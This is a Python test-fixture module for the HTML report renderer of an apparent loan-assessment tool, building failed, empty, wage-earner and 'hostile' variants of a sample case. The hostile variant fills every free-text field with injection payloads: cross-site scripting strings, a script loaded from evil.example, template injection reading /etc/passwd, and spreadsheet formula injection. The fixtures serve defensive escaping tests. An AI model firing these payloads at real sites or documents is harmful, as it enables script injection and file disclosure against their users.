"""Results to render: the worked example, one that failed, one that is almost empty, one that is hostile."""

import copy
import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

FIXTURES = Path(__file__).parent / "fixtures"
LANGUAGES = ("zh", "en")
CODED = frozenset(
    (
        *("language", "kind", "type", "verdict", "severity", "status", "suggestion", "position", "method", "form"),
        *(
            "product",
            "survey_date",
            "opening_date",
            "date",
            "generated_at",
            "level",
            "effect",
            "cases",
            "methods",
            "at",
        ),
    )
)  # of closed sets, or dates: no text of a user
LONG = "字" * 32_000
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</style></title><script src=https://evil.example/x.js></script>",
    "{{7*7}}{% include '/etc/passwd' %}{#",
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    "\u202eתודה\u202c \u2066🐖👨‍👩‍👧\u2069",
    "\x00\x1b[31m\ud800\ufffe",
    "&#60;script&#62; &amp; ]]> <!-- --> \\00003c",
    "A" * 40_000,
    LONG,
    "",
)


def fmcg(language: str = "zh") -> dict[str, Any]:
    """The wholesaler of METHOD 9A."""
    name = "fmcg_result.json" if language == "zh" else "fmcg_result_en.json"
    result: dict[str, Any] = json.loads((FIXTURES / name).read_text("utf-8"))
    return result


def failed(language: str = "zh") -> dict[str, Any]:
    """The same case with a failed equity check, a knock-out, checks not performed and many findings."""
    result = fmcg(language)
    result["status"] = "incomplete"
    result["decision"] |= {"suggestion": "return", "amount": None, "rate": None, "covenants": []}
    checks = {check["id"]: check for check in result["checks"]}
    checks["FM17"] |= {"verdict": "fail", "deviation": -0.204918, "taken": None, "first": None}
    for name in ("FM05", "FM06", "FM07"):
        checks[name] |= {"verdict": "fail", "deviation": -0.33}
    for name in ("FM02", "FM10"):
        checks[name] |= {"verdict": "explain", "deviation": -0.13}
    for name in ("FM08", "FM09", "ST01", "ST02"):
        checks[name] |= {"verdict": "not_performed", "evidence": None, "deviation": None, "taken": None}
    result["coverage"] = {"performed": 5, "required": 9, "pass_rate": 0.613}
    result["score"] |= {"grade": "BBB", "grade_before_caps": "A", "total": 58}
    for method in result["line"]["methods"]:
        method["binding"] = False
    result["line"] |= {"minimum": None, "binding": None, "total": 0.0, "net_new": None, "reason": "…"}
    result["schedule"] = []
    result["score"]["caps"][0]["status"] = "applied"
    for number, status in ((7, "hit"), (11, "cured"), (14, "not_evaluated")):
        result["score"]["knockouts"][number] |= {"status": status, "reason": "…"}
    _strain(result)
    result["findings"] += [dict(result["findings"][0], severity="error", code=f"XC{i}") for i in range(20, 30)]
    return result


def _strain(result: dict[str, Any]) -> None:
    """Make the months ahead run out of cash, a stress rule fail, a card disagree, a value conservative."""
    for month in result["cash_calendar"][6:]:
        month |= {"closing": -abs(month["closing"]), "below_zero": True, "causes": ["…"]}
    for scenario in result["stress"]:
        scenario["survives"] = False
        for rule in scenario["rules"]:
            rule |= {"value": -1.0, "status": "fails", "share": 0.5}
    result["parallel"][0] |= {"grade": "BB", "counts_as": "BB", "apart": 3, "status": "review", "reason": "…"}
    result["conservative"][0] |= {"surveyed": 0.0, "taken": 36_000.0, "used": True}
    result["alerts"][0]["raised"] = result["alerts"][-1]["raised"] = True
    result["minimum"][0]["holds"] = False
    result["claims"][0]["strong"] = False
    decided = {"asked": 480_000.0, "limit": 440_000.0, "accepted": False}
    result["line"]["override"] = decided | {"reason": "…", "by": "王*", "why_not": "…"}


def wage_earner(language: str = "zh") -> dict[str, Any]:
    """A borrower without a business: no statements of one, no checks of trade, nothing of a shop in the values."""
    result = fmcg(language)
    result["statements"] = {name: result["statements"][name] for name in ("family_sheet", "family_flow")}
    result["layouts"] = {name: result["layouts"][name] for name in result["statements"] if name in result["layouts"]}
    result["adjustments"] = []
    result["checks"] = [check for check in result["checks"] if check["id"].startswith("ST")]
    result["indicators"] = []
    result["ratios"] = {name: result["ratios"][name] for name in ("dscr_requested", "dscr_line")}
    result["ratios"]["debt_to_income"] = 0.483
    family = ("family_net_worth", "consolidated_net_worth")
    result["values"] = {
        name: entry for name, entry in result["values"].items() if not entry["formula"] or name in family
    }
    return result


def empty(language: str = "zh") -> dict[str, Any]:
    """A case of which hardly anything is known: whatever may be missing is missing."""
    result = fmcg(language)
    result["status"] = "incomplete"
    for name in ("people", "request", "ratios"):
        result[name] = dict.fromkeys(result[name])
    result["case"] |= {"id": None, "borrower": None, "survey_date": None, "opening_date": None}
    result["decision"] = dict.fromkeys(result["decision"]) | {"suggestion": "return", "conditions": [], "covenants": []}
    result["integrity"] = {"performed": False, "items": []}
    result["source"] = {"kind": "answers", "hash": None}
    for entry in result["values"].values():
        entry |= {"value": [] if isinstance(entry["value"], list) else None, "text": None, "place": None}
    result["coverage"] = {"performed": 0, "required": 0, "pass_rate": None}
    for name in ("adjustments", "schedule", "findings", "checklist", "parallel", "cash_calendar", "stress"):
        result[name] = []
    _blank_tables(result)
    return result


def _blank_safeguards(result: dict[str, Any]) -> None:
    for name, column in (("family_sheet", "value"), ("family_flow", "amount")):
        for row in result["statements"][name]:
            row[column] = None
    for row in result["claims"]:
        row.update({"checks": [], "confirmed_by": [], "methods": [], "strong": False})
    for row in result["conservative"]:
        row.update(dict.fromkeys(("surveyed", "taken", "used")))
    for name, known in (("alerts", "raised"), ("minimum", "holds")):
        for row in result[name]:
            row[known] = None
    for row in result["soft_matrix"]["columns"]:
        row.update(dict.fromkeys(("cell", "score")))
    result["soft_matrix"]["total"] = None


def _blank_tables(result: dict[str, Any]) -> None:
    statements = result["statements"]
    for row in statements["balance_sheet"]:
        row.update(dict.fromkeys(("opening", "book", "adjustment", "restated")))
    for row in statements["income_statement"]:
        row |= {"months": [None] * 12, "total": None}
    for row in (*statements["cash_flow"]["direct"], *statements["cash_flow"]["indirect"]):
        row["amount"] = None
    _blank_safeguards(result)
    for row in result["identities"]:
        row.update(dict.fromkeys(("gap", "tolerance", "holds")))
    for row in result["checks"]:
        keys = ("base", "evidence", "taken", "deviation", "tolerance", "explanation", "first", "place", "ask")
        row.update(dict.fromkeys(keys))
        row |= {"verdict": "not_performed", "reason": None}
    for row in result["indicators"]:
        row.update(dict.fromkeys(("value", "low", "median", "high", "review_low", "review_high", "position")))
    score = result["score"]
    score |= {
        "total": None,
        "grade": None,
        "grade_before_caps": None,
        "valid": False,
        "missing": ["I01"],
        "missing_allowed": 0,
    }
    for part in score["dimensions"]:
        part["points"] = None
        for row in part["indicators"]:
            row |= {"value": None, "text": None, "band": None, "points": None, "missing": True}
    for item in (*score["caps"], *score["knockouts"]):
        item |= {"status": "not_evaluated", "reason": None}
    for row in result["line"]["methods"]:
        row |= {"value": None, "applicable": False, "reason": None, "binding": False, "inputs": []}
    result["line"] = dict.fromkeys(result["line"]) | {"methods": result["line"]["methods"], "cases": []}
    result["price"] = dict.fromkeys(result["price"]) | {"parts": []}


def hostile(payload: str, language: str = "zh") -> dict[str, Any]:
    """The example with one text in the place of every text, the names of values and the ids among them."""
    result = _poisoned(copy.deepcopy(fmcg(language)), "", payload)
    assert isinstance(result, dict)
    return result


def _poisoned(node: Any, key: str, payload: str) -> Any:
    if isinstance(node, dict):
        if set(node) == {"error"}:
            return node
        poisoned = {name: _poisoned(child, name, payload) for name, child in node.items()}
        if key == "values":
            return {
                f"{name}{payload[:200]}" if number % 2 else name: child
                for number, (name, child) in enumerate(poisoned.items())
            }
        return poisoned
    if isinstance(node, list):
        return [_poisoned(child, key, payload) for child in node]
    return payload if isinstance(node, str) and key not in CODED else node


class Page(HTMLParser):
    """A page as its tags and its text, a line a block."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.pieces: list[str] = []
        self._styles = 0
        self.style = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs
        self._styles += tag == "style"
        if tag in ("tr", "li", "p", "h1", "h2", "h3", "dl", "figure", "section"):
            self.pieces.append("\n")
        elif tag in ("td", "th"):
            self.pieces.append(" | ")
        elif tag in ("dt", "span", "small"):
            self.pieces.append("  ")
        elif tag == "dd":
            self.pieces.append(" ")

    def handle_endtag(self, tag: str) -> None:
        self._styles -= tag == "style"

    def handle_data(self, data: str) -> None:
        if self._styles:
            self.style += data
        else:
            self.pieces.append(data.strip("\n"))

    @property
    def text(self) -> str:
        """The words of the page."""
        lines = (line.strip(" ") for line in "".join(self.pieces).split("\n"))
        return "\n".join(line for line in lines if line) + "\n"


def decision_page(html: str) -> Page:
    """Page one alone."""
    start, end = html.index('<main id="decision"'), html.index("</main>")
    return Page(html[start:end])
